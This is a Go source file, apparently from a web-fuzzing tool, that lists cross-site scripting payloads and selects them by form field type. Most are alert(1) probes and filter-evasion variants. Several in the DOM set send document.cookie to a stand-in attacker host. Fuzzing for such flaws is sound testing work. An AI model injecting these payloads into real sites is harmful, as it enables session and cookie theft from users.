package payloads

import (
	"strings"

	"github.com/PentesterFlow/OpenFuzzer/internal/browser"
)

// XSSProvider supplies cross-site scripting payloads.
type XSSProvider struct{}

func (XSSProvider) Category() Category { return CategoryXSS }

var xssBasic = []Payload{
	{Value: "<script>alert(1)</script>", Category: CategoryXSS, Name: "Basic Script Alert",
		Description: "Basic JavaScript alert in script tags"},
	{Value: "<img src=x onerror=alert(1)>", Category: CategoryXSS, Name: "Image Error Event",
		Description: "XSS using image error event"},
	{Value: "<svg onload=alert(1)>", Category: CategoryXSS, Name: "SVG Onload",
		Description: "XSS using SVG onload event"},
	{Value: `<div onmouseover="alert(1)">Hover me</div>`, Category: CategoryXSS, Name: "Mouse Over",
		Description: "XSS triggered by mouse hover"},
	{Value: `<a href="javascript:alert(1)">Click me</a>`, Category: CategoryXSS, Name: "Link JavaScript",
		Description: "XSS in anchor href attribute"},
}

var xssAdvanced = []Payload{
	{Value: "javascript:alert(1)", Category: CategoryXSS, Name: "JavaScript Protocol",
		Description: "Using javascript: protocol"},
	{Value: `<iframe src="javascript:alert(1)"></iframe>`, Category: CategoryXSS, Name: "Iframe JavaScript",
		Description: "XSS using iframe with javascript protocol"},
	{Value: "<body onload=alert(1)>", Category: CategoryXSS, Name: "Body Onload",
		Description: "XSS using body onload event"},
	{Value: "<details open ontoggle=alert(1)>", Category: CategoryXSS, Name: "Details Toggle",
		Description: "XSS using details element toggle event"},
	{Value: "<select autofocus onfocus=alert(1)>", Category: CategoryXSS, Name: "Select Focus",
		Description: "XSS using select element focus event"},
	{Value: "<marquee onstart=alert(1)>", Category: CategoryXSS, Name: "Marquee Start",
		Description: "XSS using marquee element start event"},
	{Value: "<video src=1 onerror=alert(1)>", Category: CategoryXSS, Name: "Video Error",
		Description: "XSS using video element error event"},
	{Value: "<audio src=1 onerror=alert(1)>", Category: CategoryXSS, Name: "Audio Error",
		Description: "XSS using audio element error event"},
}

var xssEvasion = []Payload{
	{Value: "<script>eval(atob('YWxlcnQoMSk='))</script>", Category: CategoryXSS, Name: "Base64 Encoded",
		Description: "Base64 encoded alert to evade filters"},
	{Value: `<img src=x onerror="eval(String.fromCharCode(97,108,101,114,116,40,49,41))"`, Category: CategoryXSS,
		Name: "Char Code Evasion", Description: "Using character codes to evade filters"},
	{Value: "<script>setTimeout('ale'+'rt(1)',0)</script>", Category: CategoryXSS, Name: "String Splitting",
		Description: "Splitting strings to evade filters"},
	{Value: `<script>\u0061lert(1)</script>`, Category: CategoryXSS, Name: "Unicode Escape",
		Description: "Using Unicode escape sequences to evade filters"},
	{Value: "<script>a=alert;a(1);</script>", Category: CategoryXSS, Name: "Function Assignment",
		Description: "Assigning alert to variable to evade filters"},
	{Value: "<script>onerror=alert;throw 1</script>", Category: CategoryXSS, Name: "Error Handler",
		Description: "Using error handler to execute alert"},
	{Value: "<script>{'ale'+'rt'}(1)</script>", Category: CategoryXSS, Name: "Object Property",
		Description: "Using computed object property to evade filters"},
	{Value: "<script>window['alert'](1)</script>", Category: CategoryXSS, Name: "Window Property",
		Description: "Accessing alert via window object to evade filters"},
	{Value: "<script>this['ale'+'rt'](1)</script>", Category: CategoryXSS, Name: "This Property",
		Description: "Accessing alert via this object to evade filters"},
}

var xssDOM = []Payload{
	{Value: `"><script>document.getElementById('test').innerHTML=document.cookie</script>`, Category: CategoryXSS,
		Name: "DOM Cookie Theft", Description: "Stealing cookies via DOM manipulation"},
	{Value: `<a href="#" onclick="document.location='https://attacker.com/steal?cookie='+document.cookie">Click me</a>`,
		Category: CategoryXSS, Name: "Link Cookie Theft", Description: "Stealing cookies via link click"},
	{Value: "<script>fetch('https://attacker.com/steal?cookie='+document.cookie)</script>", Category: CategoryXSS,
		Name: "Fetch Cookie Theft", Description: "Stealing cookies via fetch API"},
	{Value: "<script>new Image().src='https://attacker.com/steal?cookie='+document.cookie</script>", Category: CategoryXSS,
		Name: "Image Cookie Theft", Description: "Stealing cookies via image loading"},
	{Value: "<script>navigator.sendBeacon('https://attacker.com/steal', document.cookie)</script>", Category: CategoryXSS,
		Name: "Beacon Cookie Theft", Description: "Stealing cookies via Beacon API"},
	{Value: "<script>window.location.href='https://attacker.com/steal?cookie='+document.cookie</script>", Category: CategoryXSS,
		Name: "Redirect Cookie Theft", Description: "Stealing cookies via redirect"},
}

var xssHTML5 = []Payload{
	{Value: "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", Category: CategoryXSS, Name: "SVG Animate",
		Description: "XSS using SVG animate element"},
	{Value: "<svg><set onbegin=alert(1) attributeName=x to=y dur=1s>", Category: CategoryXSS, Name: "SVG Set",
		Description: "XSS using SVG set element"},
	{Value: "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>Click</maction></math>",
		Category: CategoryXSS, Name: "MathML Action", Description: "XSS using MathML maction element"},
	{Value: "<form><button formaction=javascript:alert(1)>Click</button>", Category: CategoryXSS, Name: "Form Action",
		Description: "XSS using form button formaction attribute"},
	{Value: "<input autofocus onfocus=alert(1)>", Category: CategoryXSS, Name: "Input Autofocus",
		Description: "XSS using input autofocus attribute"},
	{Value: "<video><source onerror=alert(1)>", Category: CategoryXSS, Name: "Video Source",
		Description: "XSS using video source element"},
	{Value: "<keygen autofocus onfocus=alert(1)>", Category: CategoryXSS, Name: "Keygen Focus",
		Description: "XSS using deprecated keygen element"},
}

var xssAngular = []Payload{
	{Value: "{{constructor.constructor('alert(1)')()}}", Category: CategoryXSS, Name: "Angular Expression",
		Description: "XSS using AngularJS expression evaluation"},
	{Value: "<div ng-app ng-csp><div ng-click=$event.view.alert(1)>Click me</div></div>", Category: CategoryXSS,
		Name: "Angular Event", Description: "XSS using AngularJS event handling"},
	{Value: "<div ng-app>{{$on.constructor('alert(1)')()}}</div>", Category: CategoryXSS, Name: "Angular Constructor",
		Description: "XSS using AngularJS $on.constructor"},
	{Value: "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>", Category: CategoryXSS, Name: "Angular Eval",
		Description: "XSS using AngularJS $eval.constructor"},
}

var xssReact = []Payload{
	{Value: "<div dangerouslySetInnerHTML={{__html: '<script>alert(1)</script>'}}></div>", Category: CategoryXSS,
		Name: "React Dangerous HTML", Description: "XSS using React's dangerouslySetInnerHTML"},
	{Value: "javascript:void(document.getElementById('root').innerHTML='<img src=x onerror=alert(1)>')",
		Category: CategoryXSS, Name: "React DOM Manipulation",
		Description: "XSS by directly manipulating React-controlled DOM"},
}

func allXSS() []Payload {
	out := make([]Payload, 0,
		len(xssBasic)+len(xssAdvanced)+len(xssEvasion)+len(xssDOM)+
			len(xssHTML5)+len(xssAngular)+len(xssReact))
	out = append(out, xssBasic...)
	out = append(out, xssAdvanced...)
	out = append(out, xssEvasion...)
	out = append(out, xssDOM...)
	out = append(out, xssHTML5...)
	out = append(out, xssAngular...)
	out = append(out, xssReact...)
	return out
}

// PayloadsFor filters the XSS set by field type. URL-like fields get
// protocol and location payloads, constrained fields get only the
// basic set, textareas get the richer markup sets.
func (XSSProvider) PayloadsFor(fieldType browser.FieldType) []Payload {
	switch fieldType {
	case browser.FieldHidden, browser.FieldPassword, browser.FieldFile, browser.FieldNumber:
		return clonePayloads(xssBasic)
	case browser.FieldURL, browser.FieldSearch:
		out := make([]Payload, 0)
		for _, p := range allXSS() {
			if strings.Contains(p.Value, "javascript:") || strings.Contains(p.Value, "location") {
				out = append(out, p)
			}
		}
		return out
	case browser.FieldTextarea:
		out := make([]Payload, 0, len(xssBasic)+len(xssAdvanced)+len(xssHTML5))
		out = append(out, xssBasic...)
		out = append(out, xssAdvanced...)
		out = append(out, xssHTML5...)
		return out
	case browser.FieldEmail:
		return []Payload{
			{Value: `"onmouseover=alert(1)>`, Category: CategoryXSS, Name: "Email Quote Break",
				Description: "Breaking out of email field quotes"},
			{Value: "javascript:alert(1)", Category: CategoryXSS, Name: "Email JavaScript",
				Description: "JavaScript protocol in email field"},
		}
	default:
		return allXSS()
	}
}

func clonePayloads(src []Payload) []Payload {
	out := make([]Payload, len(src))
	copy(out, src)
	return out
}
